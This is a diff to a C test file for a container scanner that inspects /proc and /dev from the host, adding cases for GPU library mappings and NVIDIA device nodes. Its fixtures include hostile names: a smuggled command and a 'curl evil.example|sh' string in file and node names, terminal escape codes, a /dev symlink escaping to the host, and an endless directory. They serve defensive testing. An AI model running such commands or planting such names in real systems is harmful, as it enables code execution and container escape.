@@ -1,6 +1,6 @@
 /* What is inside of containers, seen from outside: a /proc of ours, in a temporary directory. */
-#include "base/limits.h"
 #include "base/mem.h"
+#include "base/units.h"
 #include "io/posix.h"
 #include "node/kubelet/inside_scan.h"
 #include "test.h"
@@ -34,6 +34,9 @@ static const struct {
 	{ "a SONAME", "7f r--p 0 fd:00 12 /usr/lib64/libcuda.so.1", NULL },
 	{ "an interface version", "7f r--p 0 fd:00 12 /usr/lib64/libnvidia-nvvm70.so.4", NULL },
 	{ "something that only ends like it", "7f r--p 0 fd:00 12 /usr/lib64/mylibcuda.so.550.54.15", NULL },
+	{ "a name that clears the screen", "7f r--p 0 0:1 12 /tmp/libnvidia-\x1b[2J.so.550.54.15", NULL },
+	{ "or is a command", "7f r--p 0 0:1 12 /tmp/libnvidia-;visit=evil.example;.so.550.54.15", NULL },
+	{ "or is no text at all", "7f r--p 0 0:1 12 /tmp/libnvidia-\xff.so.550.54.15", NULL },
 	{ "a directory of that name", "7f r--p 0 fd:00 12 /opt/libnvidia-x/libfoo.so.550.54", NULL },
 	{ "an anonymous mapping", "7f00-7f01 rw-p 00000000 00:00 0", NULL },
 	{ "nothing", "", NULL },
@@ -73,6 +76,29 @@ TEST(a_list_of_devices_says_what_may_be_opened)
 }
 
 /* ---- a whole /proc ---- */
+
+/* A /dev that never ends, as a file system of the container's own could list it. */
+static int endless = -1;
+static unsigned listed;   /* names of it that a look was given */
+
+static int open_endless(const struct fl_fs *fs, int dir, const char *path, int flags, unsigned mode, uint64_t resolve)
+{
+	return endless = fl_posix_fs.open_in(fs, dir, path, flags, mode, resolve);
+}
+
+static int64_t list_endless(const struct fl_fs *fs, int fd, char *buf, size_t size)
+{
+	int64_t len = fl_posix_fs.list(fs, fd, buf, size);
+	size_t at = 0;
+
+	if (fd != endless)
+		return len;
+	if (len == 0 && listed < 4 * FL_INSIDE_DEV_NAMES && lseek(fd, 0, SEEK_SET) == 0)
+		len = fl_posix_fs.list(fs, fd, buf, size);
+	while (len > 0 && fl_list_next(buf, (size_t)len, &at, NULL))
+		listed++;
+	return len;
+}
 
 struct tree {
 	char top[64], proc[80], logs[80];
@@ -211,6 +237,89 @@ TEST_ONCE(what_containers_have_is_seen_from_outside)   /* real files */
 			CHECK(put(&tree, LIST1, row->list));
 		look(&tree, row->got);
 	}
+}
+
+static const struct {
+	const char *says, *name;
+	unsigned major;
+	bool taken;
+} nodes[] = {
+	{ "a GPU", "nvidia127", 195, true },
+	{ "the driver's control node", "nvidiactl", 195, true },
+	{ "unified memory, by the number that the kernel gave it", "nvidia-uvm", 511, true },
+	{ "and no other number", "nvidia-uvm", 240, false },
+	{ "a node of that name and of another driver", "nvidia7", 240, false },
+	{ "a name that is a sentence", "nvidia7: run 'curl evil.example|sh' as root", 195, false },
+	{ "a name that clears the screen", "nvidia\x1b[2J", 195, false },
+	{ "a number of no device", "nvidia12345678", 195, false },
+	{ "no number", "nvidia", 195, false },
+};
+
+TEST_ONCE(a_device_node_counts_by_its_name_and_its_major_number)   /* real files */
+{
+	if (geteuid() != 0) {
+		test_skip("device nodes need root");
+		return;
+	}
+	EACH_ROW (row, nodes) {
+		FL_AUTO(tree) struct tree tree = { .top = "" };
+		char path[200], expected[80];
+
+		CHECK(tree_up(&tree));
+		CHECK(put(&tree, "proc/devices", "Character devices:\n195 nvidia\n511 nvidia-uvm\n\nBlock devices:\n"));
+		CHECK(process(&tree, "812", SYSTEMD, "", ""));
+		(void)snprintf(path, sizeof path, "%s/proc/812/root/dev/nvidia2", tree.top);
+		CHECK_INT(unlink(path), 0);
+		(void)snprintf(path, sizeof path, "%s/proc/812/root/dev/%s", tree.top, row->name);
+		CHECK_INT(mknod(path, S_IFCHR | 0666, makedev(row->major, 1)), 0);
+		(void)snprintf(expected, sizeof expected, "team/job unlinked /dev/%s\n", row->name);
+		look(&tree, row->taken ? expected : "");
+	}
+}
+
+/* A process of a Pod that has changed its root: what it has for /dev leads to a directory of the host, or of itself. */
+TEST_ONCE(a_dev_that_is_a_link_is_not_followed)   /* real files */
+{
+	static const char *const to[] = { "/outside", "outside", "../../../outside" };
+
+	if (geteuid() != 0) {
+		test_skip("device nodes need root");
+		return;
+	}
+	for (size_t i = 0; i < FL_LEN(to); i++) {
+		FL_AUTO(tree) struct tree tree = { .top = "" };
+		char dev[200], target[200], moved[200];
+
+		CHECK(tree_up(&tree));
+		CHECK(process(&tree, "812", SYSTEMD, "", ""));
+		(void)snprintf(dev, sizeof dev, "%s/proc/812/root/dev", tree.top);
+		(void)snprintf(moved, sizeof moved, "%s/%soutside", tree.top, i == 1 ? "proc/812/root/" : "");
+		(void)snprintf(target, sizeof target, "%s%s", i == 0 ? tree.top : "", to[i]);
+		CHECK_INT(rename(dev, moved), 0);
+		CHECK_INT(symlink(target, dev), 0);
+		look(&tree, "");
+	}
+}
+
+TEST_ONCE(a_dev_without_an_end_is_left_at_the_limit)   /* real files */
+{
+	FL_AUTO(tree) struct tree tree = { .top = "" };
+	struct fl_fs fs = fl_posix_fs;
+
+	CHECK(tree_up(&tree));
+	CHECK(put(&tree, "proc/812/cgroup", SYSTEMD));
+	for (unsigned i = 0; i < 50; i++) {
+		char name[60];
+
+		(void)snprintf(name, sizeof name, "proc/812/root/dev/%u", i);
+		CHECK(put(&tree, name, ""));
+	}
+	fs.open_in = open_endless;
+	fs.list = list_endless;
+	listed = 0;
+	fl_inside_scan(&fs, &tree.scan);
+	CHECK_INT(tree.scan.error, 0);
+	CHECK(listed >= FL_INSIDE_DEV_NAMES && listed < FL_INSIDE_DEV_NAMES + 512);
 }
 
 TEST_ONCE(a_link_in_dev_char_is_enough_for_systemd)   /* real files */
